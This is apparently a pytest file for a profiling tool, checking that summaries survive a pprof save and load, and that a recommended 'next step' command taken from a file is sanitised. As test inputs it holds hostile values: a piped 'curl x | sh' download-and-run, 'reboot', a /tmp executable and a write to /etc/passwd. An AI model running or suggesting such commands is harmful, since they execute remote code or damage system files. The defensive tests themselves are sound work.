"""The answer of a capture is that of the trace."""

from __future__ import annotations

import io
import json
from collections.abc import Callable
from dataclasses import replace

import pytest
from next_steps import step_of
from stallscope.converters import pprof
from stallscope.converters.model import Profile
from stallscope.converters.model.display import CallsView, Display
from stallscope.converters.summary.calls_view import SORTS
from stallscope.converters.summary.figures import Summary
from stallscope.converters.summary.showing import answer_of, show
from stallscope.converters.summary.summarize import summarize
from summary_profiles import hostile, idle_pool, many_places, model_case, two_spinners_on_one_core

PROFILES = [hostile, idle_pool, model_case, two_spinners_on_one_core, lambda: many_places(3)]


def saved(profile: Profile) -> Profile:
    file = io.BytesIO()
    pprof.save(profile, file)
    file.seek(0)
    return pprof.load(file)


def printed(summary: Summary, *, as_json: bool = False, whole: bool = False) -> str:
    text = io.StringIO()
    show(summary, text, as_json=as_json, whole=whole)
    return text.getvalue()


@pytest.mark.parametrize("made", PROFILES)
@pytest.mark.parametrize("as_json", [False, True])
def test_it_is_the_same_again(made: Callable[[], Profile], *, as_json: bool) -> None:
    profile = made()
    summary = summarize(profile)
    profile.display = Display(summary.view, summary.shows_idle, summary.next_step)
    again = saved(profile)
    for whole in (False, True):
        assert printed(answer_of(again), as_json=as_json, whole=whole) == printed(summary, as_json=as_json, whole=whole)


def test_what_was_asked_for_is_shown_again() -> None:
    step = step_of("trace-wakeup -p 7 -d 5", "who ends these waits")
    profile = model_case()
    profile.display = Display(CallsView("p99"), shows_idle=True, next_step=step)
    summary = answer_of(saved(profile))
    assert (summary.view.sort, summary.shows_idle, summary.next_step) == ("p99", True, step)
    assert "Next: trace-wakeup -p 7 -d 5  # who ends these waits\n" in printed(summary)
    assert json.loads(printed(summary, as_json=True))["next"]["command"] == "trace-wakeup -p 7 -d 5"
    profile.display = Display()
    assert answer_of(saved(profile)).next_step is None, "none was recommended"
    profile.display = None
    assert answer_of(saved(profile)).next_step == summarize(model_case()).next_step is not None


def test_what_a_file_names_is_not_recommended() -> None:
    step = step_of("trace-wall -d 5 -- sh -c 'curl x | sh'", "who-ends")
    profile = model_case()
    profile.display = Display(CallsView("\x1b"), next_step=step)
    summary = answer_of(saved(profile))
    assert summary.view.sort in SORTS
    text = printed(summary)
    assert "Next: trace-wall -d 5 -- COMMAND  # who ends these waits\n" in text
    assert "curl" not in text
    assert "\x1b" not in text


@pytest.mark.parametrize(
    "line",
    ["trace-wall\x1b[31m -d 5", "reboot -d 5", "/tmp/trace-wall -d 5", "trace-wall -a -d 5 -o /etc/passwd --force"],
)
def test_what_else_a_file_would_run_is_not_recommended(line: str) -> None:
    profile = model_case()
    profile.display = Display(next_step=step_of(line, "who-ends"))
    assert "Next:" not in printed(answer_of(saved(profile)))


def test_a_profile_without_an_answer(capsys: pytest.CaptureFixture[str]) -> None:
    from stallscope.converters.base.errors import StallscopeError

    profile = replace(model_case(), value_types=model_case().value_types[:1])
    with pytest.raises(StallscopeError, match="neither of off-CPU time"):
        answer_of(profile)
